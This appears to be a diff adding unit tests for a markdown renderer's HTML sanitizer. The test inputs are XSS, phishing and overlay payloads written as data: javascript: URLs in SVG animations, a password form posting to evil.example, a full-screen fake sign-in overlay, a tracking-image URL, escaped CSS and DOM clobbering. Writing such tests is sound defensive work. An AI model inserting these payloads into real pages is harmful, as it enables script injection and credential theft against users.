@@ -96,4 +96,68 @@ describe('raw HTML policy', () => {
   it('lets the word javascript appear where it does no harm', () => {
     expect(render('<abbr title="javascript: a language">JS</abbr> and `javascript:void(0)`').diagnostics).toEqual([]);
   });
+
+  it('fails on SVG animations that could set a javascript: or data: URL, and on animated event handlers', () => {
+    const markdown = [
+      '<svg><a><animate attributeName="href" values="#;javascript:alert(1)" /><text>x</text></a></svg>',
+      '<svg><a><set attributeName="xlink:href" to=" JAVASCRIPT:alert(1)" /></a><set attributeName="href" from="data:text/html,x" by="y" /></svg>',
+      '<svg><set attributeName="onclick" to="alert(1)" /><animate attributeName="x" values="0;10" dur="1s" /></svg>',
+    ].join('\n\n');
+    expect(problems(markdown)).toEqual([
+      'error 1:9 a javascript: URL in the animation value "values" on <animate> is not allowed in markdown',
+      'error 3:9 a javascript: URL in the animation value "to" on <set> is not allowed in markdown',
+      'error 3:73 a data: URL in the animation value "from" on <set> is not allowed in markdown',
+      'error 5:6 animating the event handler "onclick" on <set> is not allowed in markdown',
+    ]);
+    const html = render(markdown).html;
+    expect(html).not.toMatch(/javascript|data:|onclick/i);
+    expect(html).toContain('values="0;10"');
+  });
+
+  it('fails on data: and vbscript: URLs in attributes that navigate or load, but allows data: images', () => {
+    const markdown = [
+      '<a href="data:text/html,<script>x</script>">a</a> <button formaction="javascript:x()">b</button>',
+      '<img src="data:image/png;base64,iVBORw0KGgo=" alt="dot"> <a href="vbscript:msgbox">c</a> <svg><image href="data:image/svg+xml,%3Csvg/%3E"/></svg>',
+    ].join('\n\n');
+    expect(problems(markdown)).toEqual([
+      'error 1:1 a data: URL in "href" on <a> is not allowed in markdown',
+      'error 1:51 a javascript: URL in "formaction" on <button> is not allowed in markdown',
+      'error 3:58 a vbscript: URL in "href" on <a> is not allowed in markdown',
+    ]);
+    expect(render(markdown).html).toContain('src="data:image/png;base64,iVBORw0KGgo="');
+  });
+
+  it('fails on <plaintext>, <form> and the other elements that take over the page', () => {
+    const markdown = '<form action="https://evil.example/"><input type="password" name="p"></form>\n\n<noscript><p>x</p></noscript>\n\n<plaintext>rest';
+    expect(problems(markdown)).toEqual([
+      'error 1:1 <form> is not allowed in markdown',
+      'error 3:1 <noscript> is not allowed in markdown',
+      'error 5:1 <plaintext> is not allowed in markdown',
+    ]);
+    expect(render(markdown).html).not.toMatch(/<(form|plaintext|noscript)/);
+  });
+
+  it('allows styles from its list and refuses overlays, offsets, stacking and loading', () => {
+    const allowed = '<div style="max-width:720px;font-size:12px; margin-left: 2em; border-top-color: red; position: relative; display: grid">x</div>';
+    expect(render(allowed).diagnostics).toEqual([]);
+    const markdown = [
+      '<div style="position:fixed;top:0;left:0;width:100vw;height:100vh;z-index:99999;background:white">Sign in</div>',
+      '<p style="background-color: red; transform: scale(50)">x</p> <span style="color: red; background-image: URL(https://t.example/p.gif)">y</span>',
+      '<i style="po\\73ition: fixed">z</i>',
+    ].join('\n\n');
+    expect(problems(markdown)).toMatchInlineSnapshot(`
+      [
+        "error 1:1 a style attribute using "position: fixed" (only static and relative), "top", "left", "z-index" on <div> is not allowed in markdown",
+        "error 3:1 a style attribute using "transform" on <p> is not allowed in markdown",
+        "error 3:62 a style attribute using "URL(" on <span> is not allowed in markdown",
+        "error 5:1 a style attribute using "\\", "po\\73ition" on <i> is not allowed in markdown",
+      ]
+    `);
+    expect(render(markdown).html).not.toContain('style=');
+  });
+
+  it('refuses name on images, which would shadow properties of the document', () => {
+    expect(problems('<img src="a.png" name="getElementById" alt="">')).toEqual(['error 1:1 the attribute "name" on <img> is not allowed in markdown']);
+  });
 });
+
